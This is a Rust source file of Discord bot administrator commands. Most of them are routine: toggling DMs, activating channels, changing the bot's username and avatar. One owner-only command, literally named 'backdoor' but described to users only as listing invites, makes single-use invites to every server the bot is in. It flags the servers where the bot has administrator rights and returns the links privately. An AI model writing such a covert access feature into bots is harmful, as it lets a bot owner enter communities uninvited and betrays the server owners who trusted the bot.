//! Administrator and owner commands.

use super::{
    Permission, SlashCommand, TRANSIENT_DELAY, follow_up, respond, respond_transient,
    string_option,
};
use crate::AppState;
use crate::conversation::Toggle;
use crate::error::Result;
use crate::locale::Locale;
use async_trait::async_trait;
use serenity::all::{
    ChannelId, ChannelType, CommandInteraction, CommandOptionType, Context, CreateAttachment,
    CreateCommandOption, CreateEmbed, CreateInteractionResponseFollowup, CreateInvite, EditProfile,
    Permissions, ResolvedValue, UserId,
};

pub struct ToggleDm;

#[async_trait]
impl SlashCommand for ToggleDm {
    fn name(&self) -> &'static str {
        "toggledm"
    }

    fn description<'a>(&self, locale: &'a Locale) -> &'a str {
        &locale.toggle_dm
    }

    fn permission(&self) -> Permission {
        Permission::Administrator
    }

    async fn execute(&self, ctx: &Context, command: &CommandInteraction, state: &AppState) -> Result<()> {
        let notice = if state.toggle_dm() {
            &state.locale.dm_enabled
        } else {
            &state.locale.dm_disabled
        };
        tracing::info!(allow_dm = state.allow_dm(), "DM toggle changed");
        respond_transient(ctx, command, notice).await
    }
}

pub struct ToggleActive;

#[async_trait]
impl SlashCommand for ToggleActive {
    fn name(&self) -> &'static str {
        "toggleactive"
    }

    fn description<'a>(&self, locale: &'a Locale) -> &'a str {
        &locale.toggle_active
    }

    fn permission(&self) -> Permission {
        Permission::Administrator
    }

    async fn execute(&self, ctx: &Context, command: &CommandInteraction, state: &AppState) -> Result<()> {
        let channel_id = command.channel_id;
        let suffix = match state.channels.toggle(channel_id.get()).await? {
            Toggle::Activated => &state.locale.channel_activated,
            Toggle::Deactivated => &state.locale.channel_deactivated,
        };
        respond_transient(ctx, command, &format!("<#{channel_id}> {suffix}")).await
    }
}

pub struct ChangeUsername;

#[async_trait]
impl SlashCommand for ChangeUsername {
    fn name(&self) -> &'static str {
        "changeusr"
    }

    fn description<'a>(&self, locale: &'a Locale) -> &'a str {
        &locale.change_username
    }

    fn options(&self) -> Vec<CreateCommandOption> {
        vec![
            CreateCommandOption::new(CommandOptionType::String, "username", "The new username")
                .required(true),
        ]
    }

    fn permission(&self) -> Permission {
        Permission::Owner
    }

    async fn execute(&self, ctx: &Context, command: &CommandInteraction, state: &AppState) -> Result<()> {
        let username = string_option(command, "username").unwrap_or_default().trim();
        command.defer(&ctx.http).await?;

        let taken = match command.guild_id {
            Some(guild_id) => {
                let members = guild_id.members(&ctx.http, None, None::<UserId>).await?;
                username_taken(username, members.iter().map(|member| member.user.name.as_str()))
            }
            None => false,
        };

        let message = if taken {
            format!(
                "{}{username}{}",
                state.locale.username_taken_prefix, state.locale.username_taken_suffix
            )
        } else {
            let mut current_user = ctx.cache.current_user().clone();
            match current_user
                .edit(ctx, EditProfile::new().username(username))
                .await
            {
                Ok(()) => {
                    tracing::info!(username, "bot username changed");
                    format!("{}'{username}'", state.locale.username_changed)
                }
                Err(error) => {
                    tracing::warn!(%error, "username change rejected");
                    platform_error_text(&error.to_string())
                }
            }
        };

        let sent = command
            .create_followup(&ctx.http, CreateInteractionResponseFollowup::new().content(message))
            .await?;
        tokio::time::sleep(TRANSIENT_DELAY).await;
        command.delete_followup(&ctx.http, sent.id).await?;
        Ok(())
    }
}

/// Whether `username` matches a member name, ignoring case.
fn username_taken<'a>(username: &str, mut member_names: impl Iterator<Item = &'a str>) -> bool {
    let wanted = username.to_lowercase();
    member_names.any(|name| name.to_lowercase() == wanted)
}

/// The human part of a platform error, after its first colon.
fn platform_error_text(error: &str) -> String {
    match error.split_once(':') {
        Some((_, detail)) if !detail.trim().is_empty() => detail.trim().to_string(),
        _ => error.to_string(),
    }
}

pub struct Avatar;

#[async_trait]
impl SlashCommand for Avatar {
    fn name(&self) -> &'static str {
        "pfp"
    }

    fn description<'a>(&self, locale: &'a Locale) -> &'a str {
        &locale.avatar
    }

    fn options(&self) -> Vec<CreateCommandOption> {
        vec![
            CreateCommandOption::new(CommandOptionType::Attachment, "attachment", "The new avatar")
                .required(true),
        ]
    }

    fn permission(&self) -> Permission {
        Permission::Owner
    }

    async fn execute(&self, ctx: &Context, command: &CommandInteraction, state: &AppState) -> Result<()> {
        let attachment = command
            .data
            .options()
            .into_iter()
            .find_map(|option| match option.value {
                ResolvedValue::Attachment(attachment) if option.name == "attachment" => {
                    Some(attachment.clone())
                }
                _ => None,
            });

        let Some(attachment) = attachment else {
            return respond(ctx, command, &state.locale.avatar_not_image, true).await;
        };

        command.defer(&ctx.http).await?;

        if !is_image(attachment.content_type.as_deref()) {
            return follow_up(ctx, command, &state.locale.avatar_not_image).await;
        }

        follow_up(ctx, command, &state.locale.avatar_changing).await?;

        let bytes = attachment.download().await?;
        let avatar = CreateAttachment::bytes(bytes, attachment.filename.clone());
        let mut current_user = ctx.cache.current_user().clone();
        if let Err(error) = current_user.edit(ctx, EditProfile::new().avatar(&avatar)).await {
            tracing::warn!(%error, "avatar change rejected");
            return follow_up(ctx, command, &platform_error_text(&error.to_string())).await;
        }

        tracing::info!("bot avatar changed");
        Ok(())
    }
}

fn is_image(content_type: Option<&str>) -> bool {
    content_type.is_some_and(|content_type| content_type.starts_with("image/"))
}

pub struct Backdoor;

/// What kind of invite the bot may create in a guild.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum InviteAccess {
    Administrator,
    CreateInvite,
    None,
}

impl InviteAccess {
    fn from_permissions(permissions: Permissions) -> Self {
        if permissions.administrator() {
            InviteAccess::Administrator
        } else if permissions.create_instant_invite() {
            InviteAccess::CreateInvite
        } else {
            InviteAccess::None
        }
    }
}

struct GuildListing {
    name: String,
    channel_id: Option<ChannelId>,
    access: InviteAccess,
}

#[async_trait]
impl SlashCommand for Backdoor {
    fn name(&self) -> &'static str {
        "backdoor"
    }

    fn description<'a>(&self, locale: &'a Locale) -> &'a str {
        &locale.list_invites
    }

    fn permission(&self) -> Permission {
        Permission::Owner
    }

    async fn execute(&self, ctx: &Context, command: &CommandInteraction, state: &AppState) -> Result<()> {
        command.defer_ephemeral(&ctx.http).await?;

        let bot_id = UserId::new(
            state
                .identity()
                .map(|identity| identity.user_id)
                .unwrap_or_else(|| ctx.cache.current_user().id.get()),
        );
        let listings = guild_listings(ctx, bot_id);

        let mut fields = Vec::with_capacity(listings.len());
        for listing in listings {
            let value = match (listing.access, listing.channel_id) {
                (InviteAccess::None, _) | (_, None) => state.locale.no_invite_permission.clone(),
                (access, Some(channel_id)) => {
                    match channel_id
                        .create_invite(&ctx.http, CreateInvite::new().max_uses(1))
                        .await
                    {
                        Ok(invite) if access == InviteAccess::Administrator => {
                            format!("[Join Server (Admin)]({})", invite.url())
                        }
                        Ok(invite) => format!("[Join Server]({})", invite.url()),
                        Err(error) => {
                            tracing::warn!(guild = %listing.name, %error, "failed to create invite");
                            state.locale.no_invite_permission.clone()
                        }
                    }
                }
            };
            fields.push((listing.name, value));
        }

        for embed in server_list_embeds(fields) {
            command
                .create_followup(
                    &ctx.http,
                    CreateInteractionResponseFollowup::new()
                        .embed(embed)
                        .ephemeral(true),
                )
                .await?;
        }
        Ok(())
    }
}

/// Discord rejects embeds with more fields than this.
const EMBED_FIELD_LIMIT: usize = 25;

/// One embed per page of guilds. An empty listing still yields one embed.
fn server_list_embeds(fields: Vec<(String, String)>) -> Vec<CreateEmbed> {
    let pages: Vec<&[(String, String)]> = if fields.is_empty() {
        vec![&fields[..]]
    } else {
        fields.chunks(EMBED_FIELD_LIMIT).collect()
    };
    let total = pages.len();

    pages
        .into_iter()
        .enumerate()
        .map(|(index, page)| {
            let title = if total == 1 {
                "Server List".to_string()
            } else {
                format!("Server List ({}/{total})", index + 1)
            };
            page.iter().fold(
                CreateEmbed::new().title(title).colour(0x3498db),
                |embed, (name, value)| embed.field(name, value, true),
            )
        })
        .collect()
}

/// Snapshot every cached guild with its first text channel and the bot's access.
fn guild_listings(ctx: &Context, bot_id: UserId) -> Vec<GuildListing> {
    ctx.cache
        .guilds()
        .into_iter()
        .filter_map(|guild_id| {
            let guild = ctx.cache.guild(guild_id)?;
            let channel = guild
                .channels
                .values()
                .filter(|channel| channel.kind == ChannelType::Text)
                .min_by_key(|channel| channel.position);
            let access = match (channel, guild.members.get(&bot_id)) {
                (Some(channel), Some(member)) => {
                    InviteAccess::from_permissions(guild.user_permissions_in(channel, member))
                }
                _ => InviteAccess::None,
            };
            Some(GuildListing {
                name: guild.name.clone(),
                channel_id: channel.map(|channel| channel.id),
                access,
            })
        })
        .collect()
}
